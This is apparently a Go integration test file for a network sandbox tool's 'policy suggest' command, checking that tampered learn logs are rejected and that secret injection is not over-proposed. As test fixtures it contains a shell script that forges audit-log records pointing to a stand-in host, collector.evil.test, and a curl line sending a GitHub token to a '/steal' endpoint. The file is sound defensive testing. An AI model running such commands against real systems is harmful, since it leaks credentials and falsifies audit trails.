package integration

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// apiInjectPolicy is a policy whose one rule injects GITHUB_TOKEN (from
// TW_TEST_GITHUB_TOKEN) into api.creds.test; a test appends the rule's
// other keys.
const apiInjectPolicy = `version: 1
secrets:
  GITHUB_TOKEN: {env: TW_TEST_GITHUB_TOKEN}
phases:
  exec:
    allow:
      - host: api.creds.test
        inject: [GITHUB_TOKEN]
`

// forgeScript appends to the learn log ($TW_LOG), from inside the
// sandbox, a request record saying the run injected GITHUB_TOKEN into
// collector.evil.test, so that a suggestion from the log would send the
// token there.
const forgeScript = `curl -sS https://api.creds.test/repos/acme/widget -H "Authorization: token $GITHUB_TOKEN"
RUN=$(head -c 400 "$TW_LOG" | sed -n 's/.*"run":"\([^"]*\)".*/\1/p')
printf '{"ts":"2026-12-04T00:00:00.000000001Z","run":"%s","phase":"exec","kind":"flow","proto":"tcp","src":"198.18.0.2:40000","dst":"192.0.2.66:443","host":"collector.evil.test","host_from":"dns","port":443,"verdict":"allow","rule":"learn","prev":"%064d"}\n' "$RUN" 0 >> "$TW_LOG"
printf '{"ts":"2026-12-04T00:00:00.000000001Z","run":"%s","phase":"exec","kind":"http","host":"collector.evil.test","port":443,"verdict":"allow","rule":"learn","method":"POST","path":"/collect","secrets":"GITHUB_TOKEN","prev":"%064d"}\n' "$RUN" 0 >> "$TW_LOG" && echo forged
`

// TestPolicySuggestRefusesALearnLogTheSandboxAppendedTo: in a learn run
// whose log the sandbox can write (rootless, the log in a folder of the
// user's), the sandbox appends a forged record claiming the run injected
// the token into its own collector. suggest must verify the chain first
// and refuse a broken log with verify's message (or, with
// --verified-prefix, use only the lines before the break, and say so), and
// never propose an inject the learn run's policy did not make.
func TestPolicySuggestRefusesALearnLogTheSandboxAppendedTo(t *testing.T) {
	requireTools(t, "curl")
	cw := newCredsWorld(t, 65534)
	dir := filepath.Join(cw.world.dir, "learn")
	os.MkdirAll(dir, 0o755)
	os.Chown(dir, 65534, 65534)
	log := filepath.Join(dir, "learn.jsonl")
	pol := writeSetupPolicy(t, cw.world, "learn.yaml", apiInjectPolicy)
	r := cw.world.run(runOpts{script: forgeScript, asUser: 65534, flags: []string{"--policy", pol, "--learn", "--audit", log},
		env: []string{"TW_TEST_GITHUB_TOKEN=" + credsToken, "TW_LOG=" + log}})
	if !strings.Contains(r.stdout, "forged") {
		t.Fatalf("the sandbox could not append to its learn log (the test's premise)\n%s", r)
	}
	out, err := exec.Command(tunwallBin, "policy", "suggest", log).CombinedOutput()
	if exitCode(err) != 1 || strings.Contains(string(out), "collector.evil.test") || !strings.Contains(string(out), "line ") {
		t.Errorf("policy suggest of a log the sandbox appended to: exit %d, want 1 with verify's message and no collector.evil.test:\n%s", exitCode(err), out)
	}
	out, err = exec.Command(tunwallBin, "policy", "suggest", "--verified-prefix", log).CombinedOutput()
	if err != nil || strings.Contains(string(out), "collector.evil.test") || !strings.Contains(string(out), "api.creds.test") || !strings.Contains(string(out), "verified") {
		t.Errorf("policy suggest --verified-prefix: %v; want the verified lines' policy (api.creds.test), said so, and no collector.evil.test:\n%s", err, out)
	}
}

// TestPolicySuggestLearnLogOfTheREADMEIsOutOfTheSandboxsReach: the
// README's learn workflow runs as root with the log in a root-owned
// folder; the sandbox (nobody) cannot append to it, and suggest reads a
// log that verifies.
func TestPolicySuggestLearnLogOfTheREADMEIsOutOfTheSandboxsReach(t *testing.T) {
	requireTools(t, "curl")
	cw := newCredsWorld(t, 0)
	dir := filepath.Join(cw.world.dir, "var-lib-tunwall")
	os.MkdirAll(dir, 0o755)
	log := filepath.Join(dir, "learn.jsonl")
	pol := writeSetupPolicy(t, cw.world, "learn-root.yaml", apiInjectPolicy)
	r := cw.world.run(runOpts{script: forgeScript + "\necho done", flags: []string{"--policy", pol, "--learn", "--audit", log},
		env: []string{"TW_TEST_GITHUB_TOKEN=" + credsToken, "TW_LOG=" + log}})
	if strings.Contains(r.stdout, "forged") || !strings.Contains(r.stdout, "done") {
		t.Fatalf("the sandbox appended to a learn log in a root-owned folder\n%s", r)
	}
	out, err := exec.Command(tunwallBin, "policy", "suggest", log).CombinedOutput()
	if err != nil || !strings.Contains(string(out), `"api.creds.test"`) || strings.Contains(string(out), "collector.evil.test") {
		t.Errorf("policy suggest of the README's learn log: %v\n%s", err, out)
	}
}

// TestPolicySuggestInjectsOnlyWhereTheLearnRunInjected: a learn run whose
// policy injects the token into the API only, and whose sandbox also sends
// the token's placeholder to another host, gives a suggestion that
// injects into the API and nowhere else.
func TestPolicySuggestInjectsOnlyWhereTheLearnRunInjected(t *testing.T) {
	requireTools(t, "curl")
	cw := newCredsWorld(t, 0)
	pol := writeSetupPolicy(t, cw.world, "learn-inject.yaml", apiInjectPolicy)
	script := `curl -sS https://api.creds.test/repos/acme/widget -H "Authorization: token $GITHUB_TOKEN"
curl -sS -k https://plain.creds.test/steal -H "Authorization: token $GITHUB_TOKEN" -o /dev/null || true`
	r := cw.world.run(runOpts{script: script, flags: []string{"--policy", pol, "--learn"},
		env: []string{"TW_TEST_GITHUB_TOKEN=" + credsToken}})
	if r.code != 0 {
		t.Fatalf("the learn run failed\n%s", r)
	}
	out, err := exec.Command(tunwallBin, "policy", "suggest", r.audit).Output()
	if err != nil {
		t.Fatalf("policy suggest: %v\n%s", err, out)
	}
	sug := string(out)
	api, plain := strings.Index(sug, `"api.creds.test"`), strings.Index(sug, `"plain.creds.test"`)
	if api < 0 || plain < 0 {
		t.Fatalf("the suggestion lacks a host the run reached (the test's premise)\n%s", sug)
	}
	if n := strings.Count(sug, "inject: [GITHUB_TOKEN]"); n != 1 {
		t.Errorf("the suggestion has %d injects, want 1 (the API's)\n%s", n, sug)
	}
	// The API's rule, up to the next rule, holds the inject; plain's none.
	rule := func(at int) string {
		end := strings.Index(sug[at+1:], "- host:")
		if end < 0 {
			return sug[at:]
		}
		return sug[at : at+1+end]
	}
	if !strings.Contains(rule(api), "inject:") || strings.Contains(rule(plain), "inject:") {
		t.Errorf("the inject is not on the API's rule alone\n%s", sug)
	}
}
